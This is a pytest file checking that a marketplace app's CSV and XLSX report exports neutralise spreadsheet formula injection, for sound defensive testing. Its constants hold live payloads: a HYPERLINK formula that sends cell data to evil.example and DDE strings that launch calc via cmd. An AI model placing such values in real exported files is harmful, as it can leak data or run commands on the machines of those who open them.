"""Formula injection (OWASP CSV injection, issue #17): every CSV and XLSX the app exports writes text as text, and
text that starts like a formula (``=``, ``+``, ``-``, ``@``, a tab, a carriage return) with a single quote in front;
numbers stay typed numbers, negative ones included.

The exports, from the controllers (``grep -rn "tabular.download\\|download(" marketplace``): the reports' coverage,
referrals, quarterly and street ranking (CSV and XLSX, and the background exports of each kind), the budget
execution, the allowance report, and the fund report (CSV). The allowance bank file is the bank's own import format
(``procurement.allowances.bank_file_bytes``), not a spreadsheet report, and is not rewritten here.
"""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
from typing import Any

import pytest
from litestar import Litestar
from litestar.testing import AsyncTestClient
from openpyxl import load_workbook
from sqlalchemy import update

from marketplace import clock, tabular
from marketplace.db import Database
from marketplace.resources.models import Organization, Service
from marketplace.settings import Settings
from tests.cases.support import add_child, add_need, add_referral
from tests.conftest import Auth
from tests.procurement.helpers import LINES, make_budget
from tests.support.world import World

SERVICE = '=HYPERLINK("http://evil.example/?"&B2,"查看")'
ORGANIZATION = '+cmd|" /C calc"!A0'
BUDGET_LINE = "@SUM(1+1)*cmd|' /C calc'!A0"
STARTS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text.rstrip("%").replace(",", ""))
    except ValueError:
        return False
    return True


def formulas_in_csv(data: bytes) -> list[str]:
    """Cells a spreadsheet would evaluate: starting like a formula and not a plain number."""
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig")))
    return [cell for row in rows for cell in row if cell.startswith(STARTS) and not _is_number(cell)]


def formulas_in_xlsx(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    found = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(STARTS)):
                    found.append(f"{ws.title}!{cell.coordinate}: {cell.value!r}")
    return found


def texts(data: bytes, fmt: str) -> list[str]:
    if fmt == "csv":
        return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
    book = load_workbook(io.BytesIO(data))
    return [str(c.value) for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


# ---------------------------------------------------------------- the one table writer


def test_the_writer_quotes_formula_text_and_keeps_numbers_typed() -> None:
    sheet = tabular.Sheet(
        "表",
        ["名称", "金额", "数量", "比例"],
        [
            [SERVICE, tabular.money(-12_345), -5, tabular.percent(-0.25)],
            ["-", tabular.money(100), 3, tabular.percent(0.5)],
            ["\tx", "", 0, None],
            ["\rx", "@x", "+1", "普通文字"],
        ],
    )
    csv_rows = list(csv.reader(io.StringIO(tabular.to_csv([sheet]).decode("utf-8-sig"))))
    assert csv_rows[1] == ["'" + SERVICE, "-123.45", "-5", "-25.0%"]
    assert csv_rows[2][0] == "'-"
    assert csv_rows[3][0] == "'\tx" and csv_rows[4][:4] == ["'\rx", "'@x", "'+1", "普通文字"]
    ws = load_workbook(io.BytesIO(tabular.to_xlsx([sheet]))).active
    assert ws is not None
    assert ws["A2"].value == "'" + SERVICE and ws["A2"].data_type == "s"
    assert ws["B2"].data_type == "n" and float(ws["B2"].value) == -123.45  # a number, negative
    assert ws["C2"].value == -5 and ws["C2"].data_type == "n"
    assert ws["A3"].value == "'-"
    assert not formulas_in_xlsx(tabular.to_xlsx([sheet]))
    assert not formulas_in_csv(tabular.to_csv([sheet]))


# ---------------------------------------------------------------- every report


@pytest.fixture
async def formula_names(
    client: AsyncTestClient[Litestar], auth: Auth, db: Database, world: World, settings: Settings
) -> dict[str, Any]:
    """A published service, an organization and a budget line renamed to formulas, with a budget to report on and a
    referral to that service closed this quarter as met (the quarterly report's typical case names both)."""
    async with db.session() as session:
        await session.execute(update(Service).where(Service.id == world.services[0]).values(title=SERVICE))
        await session.execute(update(Organization).where(Organization.id == world.orgs[0]).values(name=ORGANIZATION))
        child = await add_child(session, settings, world.communities[0], world.streets[0])
        need = await add_need(session, child, "psych_counselling")
        now = clock.now()
        await add_referral(
            session,
            need,
            world.services[0],
            world.orgs[0],
            status="closed",
            verdict="met",
            sent_at=now - dt.timedelta(minutes=30),
            closed_at=now - dt.timedelta(minutes=1),
        )
    lines = [{**LINES[0], "name": BUDGET_LINE}, *LINES[1:]]
    budget = await make_budget(client, await auth("procurement"), lines=lines)
    return {"budget_id": budget["id"]}


def exports(formula_names: dict[str, Any], fund_id: int) -> list[tuple[str, str, str]]:
    today = clock.today()
    year, quarter = today.year, (today.month - 1) // 3 + 1
    out = []
    for fmt in ("csv", "xlsx"):
        out += [
            ("admin", f"/api/v1/reports/coverage?format={fmt}", fmt),
            ("admin", f"/api/v1/reports/referrals?format={fmt}", fmt),
            ("admin", f"/api/v1/reports/quarterly?year={year}&quarter={quarter}&format={fmt}", fmt),
            ("admin", f"/api/v1/reports/street-ranking?year={year}&format={fmt}", fmt),
            (
                "procurement",
                f"/api/v1/reports/budget-execution?budget_id={formula_names['budget_id']}&format={fmt}",
                fmt,
            ),
            ("procurement", f"/api/v1/reports/allowances?year={year}&quarter={quarter}&format={fmt}", fmt),
        ]
    out.append(("fund", f"/api/v1/reports/fund?fund_id={fund_id}&format=csv", "csv"))
    return out


@pytest.fixture
async def fund_id(db: Database, world: World) -> int:
    from marketplace.funds import service as funds

    async with db.session() as s:
        fund = await funds.ensure_fund(s, code=funds.PUBLIC_WELFARE_CODE, name="福田区未成年人保护公益基金")
        return fund.id


async def test_every_report_carries_no_formula(
    client: AsyncTestClient[Litestar], auth: Auth, formula_names: dict[str, Any], fund_id: int
) -> None:
    seen: list[str] = []
    for user, url, fmt in exports(formula_names, fund_id):
        r = await client.get(url, headers=await auth(user))
        assert r.status_code == 200, (url, r.text)
        found = formulas_in_csv(r.content) if fmt == "csv" else formulas_in_xlsx(r.content)
        assert not found, (url, found)
        seen += texts(r.content, fmt)
    # the names were in the reports, quoted
    assert "'" + BUDGET_LINE in seen
    assert "'" + SERVICE in seen, [x for x in seen if "HYPERLINK" in x]
    assert "'" + ORGANIZATION in seen


async def test_background_exports_carry_no_formula(
    client: AsyncTestClient[Litestar], auth: Auth, formula_names: dict[str, Any]
) -> None:
    admin = await auth("admin")
    year = clock.today().year
    jobs = [
        ("quarterly_all", {"year": year, "quarter": (clock.today().month - 1) // 3 + 1}),
        ("coverage_all", {}),
        ("ranking", {"year": year}),
    ]
    for kind, params in jobs:
        for fmt in ("csv", "xlsx"):
            r = await client.post(
                "/api/v1/reports/exports", json={"kind": kind, "format": fmt, "params": params}, headers=admin
            )
            assert r.status_code == 202, r.text
            job = r.json()
            for _ in range(300):  # at most 30 s
                if job["status"] in ("done", "failed"):
                    break
                await asyncio.sleep(0.1)
                job = (await client.get(f"/api/v1/reports/exports/{job['id']}", headers=admin)).json()
            assert job["status"] == "done", job
            got = await client.get(f"/api/v1/reports/exports/{job['id']}/download", headers=admin)
            assert got.status_code == 200, got.text
            found = formulas_in_csv(got.content) if fmt == "csv" else formulas_in_xlsx(got.content)
            assert not found, (kind, fmt, found)
